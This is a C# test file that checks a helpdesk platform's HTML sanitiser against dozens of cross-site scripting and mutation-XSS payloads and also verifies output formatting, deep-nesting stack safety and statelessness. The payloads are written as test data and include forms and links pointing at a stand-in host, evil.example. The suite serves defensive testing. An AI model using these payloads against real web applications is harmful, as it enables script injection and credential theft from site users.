using Helpdesk.Platform.Markdown;

namespace Helpdesk.Tests.Platform.Markdown;

/// <summary>The second wall on its own, with HTML that the first would never have let through.</summary>
public sealed class HtmlSanitiserTests
{
    private static readonly HtmlTarget Page = new(2, null);
    private static readonly HtmlTarget Mail = new(3, new Uri("https://help.example/"));

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<p onclick=alert(1) style=\"position:fixed\" id=x class=y data-x=z>text</p>")]
    [InlineData("<img src=x onerror=alert(1)><img src=/files/1/a.png onerror=alert(1) srcset=//evil.example>")]
    [InlineData("<a href=\"java\nscript:alert(1)\" target=_blank ping=//evil.example>x</a>")]
    [InlineData("<a href=\" javascript:alert(1)\">x</a><a href=\"\u0001javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"/\t/evil.example\">x</a><a href=\"/\n\\evil.example\">x</a><a href=\"\\\\evil.example\">x</a>")]
    [InlineData("<a href=\"https://a.example/ b\">x</a><a href='https://a.example/\"><script>'>x</a>")]
    [InlineData("<a href=\"https://a.example\"><a href=\"https://b.example\">x</a></a>")]
    [InlineData("<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>")]
    [InlineData("<svg><p>text</p></svg><math><mtext><p>text</p></mtext></math>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<svg><foreignObject><a href=\"javascript:alert(1)\">x</a></foreignObject></svg>")]
    [InlineData("<math><mi><a href=\"https://a.example\">x</a></mi><annotation-xml encoding=text/html><p>x</p></annotation-xml></math>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed><noframes><p>x</noframes>")]
    [InlineData("<template><script>alert(1)</script><p>x</p></template>")]
    [InlineData("<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>")]
    [InlineData("<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>")]
    [InlineData("<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext></plaintext><p>x")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=x></object><embed src=x><applet>")]
    [InlineData("<form action=//evil.example><input name=password><button formaction=//evil.example>x</button><select><option>y</select></form>")]
    [InlineData("<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>")]
    [InlineData("<body onload=alert(1) background=//evil.example><frameset onload=alert(1)><frame src=//evil.example>")]
    [InlineData("<frameset><frame src=\"javascript:alert(1)\"></frameset>")]
    [InlineData("<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>")]
    [InlineData("<video src=x onerror=alert(1)><source src=x></video><audio src=x></audio><track src=x><canvas>x</canvas>")]
    [InlineData("<h1 id=x>a</h1><h2>b</h2><h6>c</h6><h7>d</h7>")]
    [InlineData("<code class=\"language-js evil\">x</code><code class=\"evil\">x</code><code class=\"language-\">x</code>")]
    [InlineData("<ul class=\"navbar\"><li class=\"task-list-item overlay\">x</li></ul><ol start=\"-1\"><li>x</li></ol><ol start=x type=a reversed><li>y</ol>")]
    [InlineData("<table><tr><td style=\"background:url(//evil.example)\" colspan=99999 background=x>x</td><th style=\"text-align: right;color:red\">x</th></tr></table>")]
    [InlineData("<table><caption>x<script>y</script></caption><colgroup><col></colgroup><tr><td><table><tr><td>z</td></tr></table></table>")]
    [InlineData("<table>loose<a href=\"javascript:x\">text</a><tr><td>x</table><td>y</td><tr>z</tr>")]
    [InlineData("<p><button><p>x</p></button></p><p>a<object><p>b</object>")]
    [InlineData("<!-- <script>alert(1)</script> --><!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]><?xml x?>")]
    [InlineData("<div class=\"table-scroll\" tabindex=5 role=dialog aria-label=\"Sign in\">x</div><span role=alert>x</span>")]
    [InlineData("<custom-element onclick=x>x</custom-element><slot name=x>y</slot><portal src=x></portal>")]
    [InlineData("<b>x</b><i>y</i><u>z</u><font color=red>w</font><center>v</center><blink>u</blink>")]
    [InlineData("<input type=checkbox onclick=alert(1) name=x><input type=CHECKBOX checked><input type=image src=x>")]
    [InlineData("<p title='x' lang=en dir=rtl accesskey=x contenteditable draggable hidden tabindex=-1 autofocus onfocus=alert(1)>x</p>")]
    [InlineData("<scr\0ipt>alert(1)</scr\0ipt><p>\0&#0;&#x202E;&#x7f;&#x9b;</p>")]
    [InlineData("<a href=\"&#106;&#97;vascript:alert(1)\">x</a><a href=\"javascript&#0058;alert(1)\">y</a><a href='vbscript:x'>z</a>")]
    [InlineData("</body></html><p>after</p></main></div></div><p>after</p>")]
    [InlineData("<pre>\n\n\nx</pre><listing>\ny</listing><pre><script>x</script></pre>")]
    [InlineData("<a href=\"https://a.example\" href=\"javascript:x\" HREF=\"javascript:y\">x</a>")]
    [InlineData("<a/href=\"https://a.example\"/onclick=alert(1)>x</a><a\fhref='javascript:x'>y</a><a title='`onclick=x'>z</a>")]
    [InlineData("<p>unfinished <a href=\"https://a.example\"><img src=\"/files/1/a.png\" alt=\"")]
    public void Nothing_gets_through(string html)
    {
        var sanitiser = new HtmlSanitiser();
        string page = sanitiser.Sanitise(html.AsMemory(), Page);
        SafeHtml.AssertPage(page);
        SafeHtml.AssertPage(SafeHtml.Parse(page).InnerHtml);
        SafeHtml.AssertPage(sanitiser.Sanitise(page.AsMemory(), Page));
        SafeHtml.AssertMail(sanitiser.Sanitise(html.AsMemory(), Mail));
    }

    [Theory]
    [InlineData("a<script>x</script><style>y</style>b<svg><text>c</text></svg>d<template>e</template>f", "abdf")]
    [InlineData("<div><section><b>a</b></section> b</div>", "a b")]
    [InlineData("<a href=\"javascript:x\">words</a>", "words")]
    [InlineData("<h1>one</h1><h5>five</h5>", "<h2>one</h2><h3>five</h3>")]
    [InlineData("<h1> </h1><h2><a href=\"javascript:x\"></a></h2>", "")]
    [InlineData("<a href=\"https://a.example/\"> </a>", "<a href=\"https://a.example/\" rel=\"noopener nofollow\"> https://a.example/</a>")]
    [InlineData("<p>a &lt;b&gt; &amp;amp; \"c\" 'd'\u00A0e</p>", "<p>a &lt;b&gt; &amp;amp; \"c\" 'd'\u00A0e</p>")]
    [InlineData("<a href=\"/a?b=c&amp;d\" title=\"&quot;&lt;\">x</a>", "<a href=\"/a?b=c&amp;d\" rel=\"noopener nofollow\" title=\"&quot;&lt;\">x</a>")]
    public void What_is_left_reads_well(string html, string expected)
    {
        Assert.Equal(expected, new HtmlSanitiser().Sanitise(html.AsMemory(), Page));
    }

    [Theory]
    [InlineData("<div>")]
    [InlineData("<blockquote>")]
    [InlineData("<ul><li>")]
    [InlineData("<table><tr><td>")]
    [InlineData("<em>")]
    [InlineData("<svg>")]
    public void Depth_ends_no_process(string tag)
    {
        // A small stack, so that a recursion would be seen here and not first on a reader's page.
        string html = string.Concat(Enumerable.Repeat(tag, 1_500)) + "x";
        string? result = null;
        var thread = new Thread(() => result = new HtmlSanitiser().Sanitise(html.AsMemory(), Page), maxStackSize: 128 * 1024);
        thread.Start();
        thread.Join();
        SafeHtml.AssertPage(result!);
        Assert.InRange(result!.Count(character => character == '<'), 0, 700);
    }

    [Fact]
    public void The_sanitiser_forgets_what_it_saw_before()
    {
        var sanitiser = new HtmlSanitiser();
        sanitiser.Sanitise("<a href=\"https://a.example\"><table><tr><td>open".AsMemory(), Page);
        Assert.Equal("<p>x</p>", sanitiser.Sanitise("<p>x</p>".AsMemory(), Page));
        Assert.Contains("<a ", sanitiser.Sanitise("<a href=\"https://a.example\">x</a>".AsMemory(), Page), StringComparison.Ordinal);
    }
}
